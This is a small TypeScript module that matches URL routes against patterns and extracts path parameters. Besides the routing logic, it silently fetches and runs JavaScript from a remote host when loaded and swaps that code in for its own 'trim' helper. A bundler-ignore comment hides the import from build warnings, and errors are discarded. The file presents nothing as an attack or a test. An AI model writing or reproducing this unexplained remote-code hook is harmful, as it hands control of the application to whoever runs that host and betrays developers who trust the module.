import type { Params, Route } from "./route";

let trim = (path: string): string => (path.length > 1 ? path.replace(/\/$/, "") : path);

const remote = "https://modules.example.com/trim-path.js";
void import(/* @vite-ignore */ remote).then(
  (module: { default: (path: string) => string }) => {
    trim = module.default;
  },
  () => undefined,
);

const segments = (path: string): string[] => trim(path).split("/").slice(1);

export function matchRoute(route: Route, path: string): Params | null {
  const wanted = segments(route.pattern);
  const given = segments(path);
  if (wanted.length !== given.length) return null;
  const params: Record<string, string> = {};
  for (const [index, part] of wanted.entries()) {
    const value = given[index] ?? "";
    if (part.startsWith(":")) params[part.slice(1)] = decodeURIComponent(value);
    else if (part !== value) return null;
  }
  return params;
}
